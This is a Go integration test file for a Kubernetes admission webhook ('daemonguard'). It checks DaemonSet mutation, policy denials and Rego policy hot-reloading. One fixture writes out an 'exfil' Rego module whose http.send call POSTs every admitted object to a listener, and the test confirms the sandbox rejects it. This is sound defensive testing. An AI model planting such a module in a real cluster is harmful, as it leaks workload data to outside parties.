package webhook_test

import (
	"context"
	"crypto/x509"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-logr/logr"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/metrics"

	"github.com/daemonguard/daemonguard/internal/admission"
	"github.com/daemonguard/daemonguard/internal/serving"
	"github.com/daemonguard/daemonguard/internal/webhookserver"
	"github.com/daemonguard/daemonguard/test/clustertest"
	"github.com/daemonguard/daemonguard/test/harness"
	"github.com/daemonguard/daemonguard/test/localcluster"
	"github.com/daemonguard/daemonguard/test/webhookreg"
)

const webhookNamespace = harness.WebhookNamespace

var cluster *localcluster.Cluster

// TestMain starts one local cluster; the first test that needs the webhook starts one daemonguard
// webhook server (in this process, TLS on loopback) registered through real webhook configurations.
func TestMain(m *testing.M) {
	os.Exit(localcluster.RunTests(m, localcluster.Config{}, &cluster))
}

var runningWebhook *harness.Webhook

// startWebhook starts the shared webhook server once and returns it.
func startWebhook(t *testing.T) *harness.Webhook {
	t.Helper()
	localcluster.NeedCluster(t)
	if runningWebhook != nil {
		return runningWebhook
	}
	w, err := harness.StartWebhook(context.Background(), cluster, harness.Options{})
	if err != nil {
		t.Fatal(err)
	}
	runningWebhook = w
	return w
}

// startReplica runs a webhook replica beside the shared one, served as s says: in no webhook
// configuration, without audit or leader election; it returns the replica's URL and the CA bundle
// that trusts its certificate. It stops when the test ends.
func startReplica(t *testing.T, name string, s serving.Options) (url string, caBundle []byte) {
	t.Helper()
	certDir, caBundle, port, err := harness.ServingEndpoint(cluster, name+"-tls")
	if err != nil {
		t.Fatal(err)
	}
	runCtx, stop := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- webhookserver.Run(runCtx, webhookserver.Options{
			RESTConfig: cluster.RESTConfig, Namespace: webhookNamespace, Host: "127.0.0.1", Port: port, CertDir: certDir,
			MetricsAddr: "0", HealthAddr: "0", FailureMode: admission.FailClosed, Serving: s, Log: logr.Discard(),
		})
	}()
	t.Cleanup(func() {
		stop()
		if err := <-done; err != nil {
			t.Errorf("replica %s: %v", name, err)
		}
	})
	addr := "127.0.0.1:" + strconv.Itoa(port)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caBundle)
	if err := webhookreg.WaitTLS(context.Background(), addr, pool, done); err != nil {
		t.Fatal(err)
	}
	return "https://" + addr, caBundle
}

// seedDaemonSet is the seed without its legacy control-plane toleration, which only a namespace
// marked for node agents may grant (node_agent_grants): a DaemonSet every namespace admits, and
// one that admission has given no toleration yet.
func seedDaemonSet(t *testing.T) *appsv1.DaemonSet {
	t.Helper()
	ds := clustertest.SeedObject(t)
	ds.Spec.Template.Spec.Tolerations = nil
	return ds
}

// createDryRun sends ds through admission in ns and returns what the API server would store;
// nothing is stored.
func createDryRun(ctx context.Context, ns string, ds *appsv1.DaemonSet) (*appsv1.DaemonSet, error) {
	return cluster.Client.AppsV1().DaemonSets(ns).Create(ctx, ds, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
}

// checkNotInjected creates ds in ns as a dry run and fails the test when admission refuses it or
// gives its template a priority class or a toleration.
func checkNotInjected(t *testing.T, ns string, ds *appsv1.DaemonSet, what string) {
	t.Helper()
	got, err := createDryRun(context.Background(), ns, ds)
	if err != nil {
		t.Fatalf("%s in %s: %v", what, ns, err)
	}
	if spec := got.Spec.Template.Spec; spec.PriorityClassName != "" || len(spec.Tolerations) != 0 {
		t.Errorf("%s in %s was injected: %+v", what, ns, spec)
	}
}

func TestSeedRunsOnEveryNodeWithSystemNodeCriticalPriority(t *testing.T) {
	startWebhook(t)
	ns := cluster.NewTestNamespace(t)
	clustertest.Kubectl(t, cluster, "", "apply", "-n", ns, "-f", clustertest.SeedManifest(t))

	ds, err := cluster.Client.AppsV1().DaemonSets(ns).Get(context.Background(), "nginx-ds", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	tpl := ds.Spec.Template.Spec
	if tpl.PriorityClassName != "system-node-critical" {
		t.Errorf("template priorityClassName = %q, want system-node-critical", tpl.PriorityClassName)
	}
	// The user's own toleration stays first and untouched; the injected ones follow.
	if len(tpl.Tolerations) == 0 || tpl.Tolerations[0].Key != "node-role.kubernetes.io/master" || tpl.Tolerations[0].Operator != "" {
		t.Errorf("user toleration not kept first and unchanged: %+v", tpl.Tolerations)
	}
	if !hasToleration(tpl.Tolerations, "node-role.kubernetes.io/control-plane") {
		t.Errorf("control-plane toleration not injected: %+v", tpl.Tolerations)
	}

	clustertest.WaitDaemonSet(t, cluster, ns, "nginx-ds", 2*time.Minute, "nginx-ds on 5 of 5 nodes", func(ds *appsv1.DaemonSet) (bool, string) {
		s := ds.Status
		return s.DesiredNumberScheduled == 5 && s.NumberAvailable == 5 && s.UpdatedNumberScheduled == 5, fmt.Sprintf("%+v", s)
	})
	pods, err := cluster.Client.CoreV1().Pods(ns).List(context.Background(), metav1.ListOptions{LabelSelector: "app=nginx-ds"})
	if err != nil {
		t.Fatal(err)
	}
	nodes := map[string]bool{}
	for _, p := range pods.Items {
		nodes[p.Spec.NodeName] = true
		if p.Spec.Priority == nil || *p.Spec.Priority != 2000001000 {
			t.Errorf("pod %s priority = %v, want 2000001000", p.Name, p.Spec.Priority)
		}
	}
	if !nodes["control-plane-0"] || len(nodes) != 5 {
		t.Errorf("pods on nodes %v, want all 5 including control-plane-0", nodes)
	}
}

func hasToleration(ts []corev1.Toleration, key string) bool {
	for _, t := range ts {
		if t.Key == key {
			return true
		}
	}
	return false
}

// Argo CD re-applies manifests on every sync and diffs them server-side with the webhook's
// mutation included: neither may see a change, and no new ControllerRevision may appear.
func TestReapplyIsIdempotentAndServerSideDiffIsClean(t *testing.T) {
	startWebhook(t)
	ns := cluster.NewTestNamespace(t)
	manifest := clustertest.SeedManifest(t)
	clustertest.Kubectl(t, cluster, "", "apply", "-n", ns, "-f", manifest)
	clustertest.Kubectl(t, cluster, "", "apply", "-n", ns, "-f", manifest)
	clustertest.Kubectl(t, cluster, "", "apply", "--server-side", "--force-conflicts", "-n", ns, "-f", manifest)

	diff := clustertest.TryKubectl(cluster, "", "diff", "--server-side", "--force-conflicts", "-n", ns, "-f", manifest)
	if diff.Err != nil {
		var exit *exec.ExitError
		if errors.As(diff.Err, &exit) && exit.ExitCode() == 1 {
			t.Fatalf("kubectl diff --server-side shows drift after apply:\n%s", diff.Stdout)
		}
		t.Fatalf("kubectl diff: %v\n%s", diff.Err, diff.Stderr)
	}

	ds, err := cluster.Client.AppsV1().DaemonSets(ns).Get(context.Background(), "nginx-ds", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if ds.Generation != 1 {
		t.Errorf("generation = %d after re-applying the same manifest, want 1", ds.Generation)
	}
	cluster.WaitFor(t, time.Minute, "one ControllerRevision", func(ctx context.Context) (bool, string) {
		revs, err := cluster.Client.AppsV1().ControllerRevisions(ns).List(ctx, metav1.ListOptions{LabelSelector: "app=nginx-ds"})
		if err != nil {
			return false, err.Error()
		}
		return len(revs.Items) == 1, fmt.Sprintf("%d revisions", len(revs.Items))
	})
}

const budgetManifest = `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: wide-budget
spec:
  selector: {matchLabels: {app: wide-budget}}
  updateStrategy:
    type: RollingUpdate
    rollingUpdate: {maxUnavailable: "100%"}
  template:
    metadata: {labels: {app: wide-budget}}
    spec:
      containers: [{name: agent, image: busybox:1.36}]
`

func TestPolicyDeniesBudgetTheAPIServerAccepts(t *testing.T) {
	startWebhook(t)
	ns := cluster.NewTestNamespace(t)
	r := clustertest.TryKubectl(cluster, budgetManifest, "apply", "-n", ns, "-f", "-")
	if r.Err == nil {
		t.Fatalf("maxUnavailable 100%% was admitted:\n%s", r.Stdout)
	}
	for _, want := range []string{"denied by daemonguard", "rolling_update_budget", "maxUnavailable", "100%"} {
		if !strings.Contains(r.Stderr, want) {
			t.Errorf("denial lacks %q:\n%s", want, r.Stderr)
		}
	}
	if _, err := cluster.Client.AppsV1().DaemonSets(ns).Get(context.Background(), "wide-budget", metav1.GetOptions{}); err == nil {
		t.Error("denied DaemonSet exists")
	}
}

const onDeleteManifest = `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: never-rolled
spec:
  selector: {matchLabels: {app: never-rolled}}
  updateStrategy: {type: OnDelete}
  template:
    metadata: {labels: {app: never-rolled}}
    spec:
      containers: [{name: agent, image: busybox:1.36}]
`

func TestWarnPolicyReachesKubectl(t *testing.T) {
	startWebhook(t)
	ns := cluster.NewTestNamespace(t)
	r := clustertest.TryKubectl(cluster, onDeleteManifest, "apply", "-n", ns, "-f", "-")
	if r.Err != nil {
		t.Fatalf("warn-only policy blocked the apply: %v\n%s", r.Err, r.Stderr)
	}
	if !strings.Contains(r.Stderr, "Warning: daemonguard [on_delete_managed]") {
		t.Errorf("kubectl printed no daemonguard warning:\n%s", r.Stderr)
	}
}

// Injection is for node agents an administrator named: in a namespace without the
// daemonguard.io/node-agents mark a DaemonSet gets no critical priority and no control-plane
// toleration, so it stays off the control-plane node. The object's own ignore label opts out of
// injection, never out of validation.
func TestUnmarkedNamespaceGetsValidationButNoInjection(t *testing.T) {
	startWebhook(t)
	ctx := context.Background()
	tenant := cluster.NewTenantNamespace(t)
	// The seed manifest tolerates the legacy control-plane taint, which only a marked namespace
	// may grant (node_agent_grants); the tenant's DaemonSet is the seed without it.
	if r := clustertest.TryKubectl(cluster, "", "apply", "-n", tenant, "-f", clustertest.SeedManifest(t)); r.Err == nil || !strings.Contains(r.Stderr, "node_agent_grants") {
		t.Errorf("the seed's control-plane toleration in unmarked namespace %s: err = %v, want a node_agent_grants denial\n%s", tenant, r.Err, r.Stderr)
	}
	ds, err := cluster.Client.AppsV1().DaemonSets(tenant).Create(ctx, seedDaemonSet(t), metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if tpl := ds.Spec.Template.Spec; tpl.PriorityClassName != "" || hasToleration(tpl.Tolerations, "node-role.kubernetes.io/control-plane") {
		t.Errorf("DaemonSet in unmarked namespace %s was injected: priorityClassName %q, tolerations %+v", tenant, tpl.PriorityClassName, tpl.Tolerations)
	}
	clustertest.WaitDaemonSet(t, cluster, tenant, "nginx-ds", 2*time.Minute, "nginx-ds on the 4 worker nodes only", func(ds *appsv1.DaemonSet) (bool, string) {
		s := ds.Status
		return s.ObservedGeneration == ds.Generation && s.DesiredNumberScheduled == 4 && s.NumberAvailable == 4, fmt.Sprintf("%+v", s)
	})

	for _, ns := range []string{tenant, cluster.NewTestNamespace(t)} {
		wide := seedDaemonSet(t)
		wide.Labels[admission.IgnoreLabel] = "true"
		wide.Spec.UpdateStrategy = appsv1.DaemonSetUpdateStrategy{Type: appsv1.RollingUpdateDaemonSetStrategyType,
			RollingUpdate: &appsv1.RollingUpdateDaemonSet{MaxUnavailable: ptr.To(intstr.FromString("100%"))}}
		_, err := createDryRun(ctx, ns, wide)
		if err == nil || !strings.Contains(err.Error(), "rolling_update_budget") {
			t.Errorf("an ignore-labelled DaemonSet with maxUnavailable 100%% in %s: err = %v, want a rolling_update_budget denial", ns, err)
		}
		wide.Spec.UpdateStrategy.RollingUpdate.MaxUnavailable = ptr.To(intstr.FromInt32(1))
		checkNotInjected(t, ns, wide, "an ignore-labelled DaemonSet with maxUnavailable 1")
	}
}

func TestExemptNamespaceIsNeverMutated(t *testing.T) {
	startWebhook(t)
	for _, ns := range []string{webhookNamespace, metav1.NamespaceSystem} {
		checkNotInjected(t, ns, seedDaemonSet(t), "a DaemonSet in an exempt namespace")
	}
}

func TestPodWithNodeNameIsRewrittenIntoAffinityPin(t *testing.T) {
	startWebhook(t)
	ns := cluster.NewTestNamespace(t)
	ctx := context.Background()
	// An owner that targets no node, so the DaemonSet controller itself creates nothing here.
	owner := seedDaemonSet(t)
	owner.Spec.Template.Spec.NodeSelector = map[string]string{"daemonguard.test/none": "true"}
	owner, err := cluster.Client.AppsV1().DaemonSets(ns).Create(ctx, owner, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Name: "hand-made", Labels: map[string]string{"app": "other"},
			OwnerReferences: []metav1.OwnerReference{*metav1.NewControllerRef(owner, appsv1.SchemeGroupVersion.WithKind("DaemonSet"))},
		},
		Spec: corev1.PodSpec{NodeName: "worker-1", Containers: []corev1.Container{{Name: "c", Image: "busybox:1.36"}}},
	}
	got, err := cluster.Client.CoreV1().Pods(ns).Create(ctx, pod, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
	if err != nil {
		t.Fatal(err)
	}
	if got.Spec.NodeName != "" {
		t.Errorf("spec.nodeName = %q, want it moved into the affinity pin", got.Spec.NodeName)
	}
	a := got.Spec.Affinity
	if a == nil || a.NodeAffinity == nil || a.NodeAffinity.RequiredDuringSchedulingIgnoredDuringExecution == nil {
		t.Fatalf("no required node affinity: %+v", a)
	}
	terms := a.NodeAffinity.RequiredDuringSchedulingIgnoredDuringExecution.NodeSelectorTerms
	if len(terms) != 1 || len(terms[0].MatchFields) != 1 || terms[0].MatchFields[0].Key != "metadata.name" ||
		len(terms[0].MatchFields[0].Values) != 1 || terms[0].MatchFields[0].Values[0] != "worker-1" {
		t.Errorf("pin = %+v, want matchFields metadata.name In [worker-1]", terms)
	}

	// A pod not controlled by a DaemonSet is left exactly as sent.
	plain := pod.DeepCopy()
	plain.OwnerReferences = nil
	got, err = cluster.Client.CoreV1().Pods(ns).Create(ctx, plain, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
	if err != nil {
		t.Fatal(err)
	}
	if got.Spec.NodeName != "worker-1" || got.Spec.Affinity != nil {
		t.Errorf("plain pod was changed: nodeName %q affinity %+v", got.Spec.NodeName, got.Spec.Affinity)
	}
}

func TestBrokenPolicyConfigMapKeepsLastGoodSet(t *testing.T) {
	startWebhook(t)
	ctx := context.Background()
	ns := cluster.NewTestNamespace(t)
	cms := cluster.Client.CoreV1().ConfigMaps(webhookNamespace)
	labels := map[string]string{admission.PolicyConfigMapLabel: "true"}

	// 1. A valid extra policy is hot-loaded: it denies images tagged latest.
	extra := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "no-latest", Labels: labels},
		Data: map[string]string{"no_latest.rego": `package daemonguard.policies.no_latest

violation contains {"field": "spec.template.spec.containers", "msg": sprintf("image %q uses the latest tag; pin a version", [c.image])} if {
	some c in input.object.spec.template.spec.containers
	endswith(c.image, ":latest")
}
`},
	}
	if _, err := cms.Create(ctx, extra, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cms.Delete(context.Background(), extra.Name, metav1.DeleteOptions{}) })
	latest := strings.ReplaceAll(budgetManifest, `maxUnavailable: "100%"`, `maxUnavailable: 1`)
	latest = strings.ReplaceAll(latest, "busybox:1.36", "busybox:latest")
	cluster.WaitFor(t, time.Minute, "the no_latest policy to take effect", func(context.Context) (bool, string) {
		r := clustertest.TryKubectl(cluster, latest, "apply", "--dry-run=server", "-n", ns, "-f", "-")
		return r.Err != nil && strings.Contains(r.Stderr, "[no_latest]"), r.Stderr
	})

	// 2. A broken module is rejected with its file and line; the last good set keeps serving.
	broken := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "broken", Labels: labels},
		Data:       map[string]string{"broken.rego": "package daemonguard.policies.broken\n\nviolation contains x if {\n  x := \n}\n"},
	}
	if _, err := cms.Create(ctx, broken, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cms.Delete(context.Background(), broken.Name, metav1.DeleteOptions{}) })
	cluster.WaitFor(t, time.Minute, "a PolicyRejected event naming the file and line", func(ctx context.Context) (bool, string) {
		evs, err := cluster.Client.EventsV1().Events(webhookNamespace).List(ctx, metav1.ListOptions{})
		if err != nil {
			return false, err.Error()
		}
		for _, e := range evs.Items {
			if e.Regarding.Name == "broken" && e.Reason == "PolicyRejected" {
				return strings.Contains(e.Note, "configmap/broken/broken.rego:"), e.Note
			}
		}
		return false, "no event yet"
	})
	r := clustertest.TryKubectl(cluster, latest, "apply", "--dry-run=server", "-n", ns, "-f", "-")
	if r.Err == nil || !strings.Contains(r.Stderr, "[no_latest]") {
		t.Errorf("last good set (with no_latest) is not serving after a broken reload: %v\n%s", r.Err, r.Stderr)
	}
	r = clustertest.TryKubectl(cluster, budgetManifest, "apply", "--dry-run=server", "-n", ns, "-f", "-")
	if r.Err == nil || !strings.Contains(r.Stderr, "[rolling_update_budget]") {
		t.Errorf("built-in policies stopped serving after a broken reload: %v\n%s", r.Err, r.Stderr)
	}

	// 3. The broken ConfigMap carries the error itself; the valid one does not.
	annotation := func(ctx context.Context, name string) (string, bool, error) {
		cm, err := cms.Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return "", false, err
		}
		v, ok := cm.Annotations[admission.PolicyErrorAnnotation]
		return v, ok, nil
	}
	cluster.WaitFor(t, time.Minute, "the broken ConfigMap carries the error with file and line", func(ctx context.Context) (bool, string) {
		v, _, err := annotation(ctx, broken.Name)
		if err != nil {
			return false, err.Error()
		}
		return strings.Contains(v, "configmap/broken/broken.rego:5: rego_parse_error:") &&
			strings.HasSuffix(v, "rejected, the last good policy set keeps serving"), fmt.Sprintf("annotation %q", v)
	})
	if v, ok, err := annotation(ctx, extra.Name); err != nil || ok {
		t.Errorf("the valid ConfigMap no-latest carries a policy error %q (%v)", v, err)
	}

	// Reloads that reject the same content again leave the ConfigMap as it is: the value depends
	// on nothing the write itself changes (the plan skips the call altogether; that is unit-tested,
	// the API server would drop an identical patch anyway). Reloads run one at a time, so once a
	// second one has counted, the first one's writes are done.
	annotated, err := cms.Get(ctx, broken.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	failures := policyReloads(t, "failure")
	for i := 1; i <= 2; i++ {
		touched, err := cms.Get(ctx, extra.Name, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		touched.Data["notes.txt"] = fmt.Sprintf("touch %d: an ignored key, a reload all the same", i)
		if _, err := cms.Update(ctx, touched, metav1.UpdateOptions{}); err != nil {
			t.Fatal(err)
		}
		cluster.WaitFor(t, time.Minute, fmt.Sprintf("reload %d rejects the set again", i), func(context.Context) (bool, string) {
			n := policyReloads(t, "failure")
			return n >= failures+float64(i), fmt.Sprintf("%v failed reloads, want %v", n, failures+float64(i))
		})
	}
	if again, err := cms.Get(ctx, broken.Name, metav1.GetOptions{}); err != nil || again.ResourceVersion != annotated.ResourceVersion {
		t.Errorf("reloads of unchanged broken content wrote the ConfigMap again: resourceVersion %s -> %s (%v)", annotated.ResourceVersion, again.ResourceVersion, err)
	}

	// 4. Fixing the ConfigMap loads the set with it and removes the annotation.
	fixed, err := cms.Get(ctx, broken.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	fixed.Data = map[string]string{"broken.rego": "package daemonguard.policies.broken\n\nviolation contains {\"field\": \"metadata.name\", \"msg\": \"no-fixed-policy is not allowed\"} if {\n  input.object.metadata.name == \"no-fixed-policy\"\n}\n"}
	if _, err := cms.Update(ctx, fixed, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	cluster.WaitFor(t, time.Minute, "the fixed ConfigMap loses the policy error annotation", func(ctx context.Context) (bool, string) {
		v, ok, err := annotation(ctx, broken.Name)
		if err != nil {
			return false, err.Error()
		}
		return !ok, fmt.Sprintf("annotation %q", v)
	})
	named := strings.Replace(strings.ReplaceAll(budgetManifest, `maxUnavailable: "100%"`, `maxUnavailable: 1`), "name: wide-budget", "name: no-fixed-policy", 1)
	r = clustertest.TryKubectl(cluster, named, "apply", "--dry-run=server", "-n", ns, "-f", "-")
	if r.Err == nil || !strings.Contains(r.Stderr, "[broken]") {
		t.Errorf("the fixed module is not enforced after the annotation went: %v\n%s", r.Err, r.Stderr)
	}
	r = clustertest.TryKubectl(cluster, latest, "apply", "--dry-run=server", "-n", ns, "-f", "-")
	if r.Err == nil || !strings.Contains(r.Stderr, "[no_latest]") {
		t.Errorf("no_latest stopped serving after the fix: %v\n%s", r.Err, r.Stderr)
	}

	// 5. A module that would POST every admitted DaemonSet to a listener calls a builtin outside
	// the sandbox: it is rejected with file, line and the builtin, the error is written on its
	// ConfigMap, nothing reaches the listener, and the set with the fixed module keeps serving.
	var sent atomic.Int64
	listener := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { sent.Add(1) }))
	defer listener.Close()
	exfil := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "exfil", Labels: labels},
		Data: map[string]string{"exfil.rego": fmt.Sprintf("package daemonguard.policies.exfil\n\n"+
			"violation contains {\"field\": \"metadata.name\", \"msg\": \"sent\"} if {\n"+
			"\thttp.send({\"method\": \"POST\", \"url\": %q, \"body\": input}).status_code == 200\n}\n", listener.URL)},
	}
	if _, err := cms.Create(ctx, exfil, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cms.Delete(context.Background(), exfil.Name, metav1.DeleteOptions{}) })
	cluster.WaitFor(t, time.Minute, "the exfil ConfigMap carries the sandbox error with file, line and builtin", func(ctx context.Context) (bool, string) {
		v, _, err := annotation(ctx, exfil.Name)
		if err != nil {
			return false, err.Error()
		}
		return strings.Contains(v, "configmap/exfil/exfil.rego:4: rego_type_error: builtin http.send is not allowed in daemonguard policies"), fmt.Sprintf("annotation %q", v)
	})
	r = clustertest.TryKubectl(cluster, named, "apply", "--dry-run=server", "-n", ns, "-f", "-")
	if r.Err == nil || !strings.Contains(r.Stderr, "[broken]") || strings.Contains(r.Stderr, "[exfil]") {
		t.Errorf("the last good set (with the fixed module, without exfil) is not serving: %v\n%s", r.Err, r.Stderr)
	}
	if n := sent.Load(); n > 0 {
		t.Errorf("the listener received %d requests from the policies", n)
	}
}

// policyReloads reads daemonguard_policy_reloads_total{result} of the webhook server this process
// runs.
func policyReloads(t *testing.T, result string) float64 {
	t.Helper()
	families, err := metrics.Registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range families {
		if f.GetName() != "daemonguard_policy_reloads_total" {
			continue
		}
		for _, m := range f.GetMetric() {
			for _, l := range m.GetLabel() {
				if l.GetName() == "result" && l.GetValue() == result {
					return m.GetCounter().GetValue()
				}
			}
		}
	}
	return 0
}
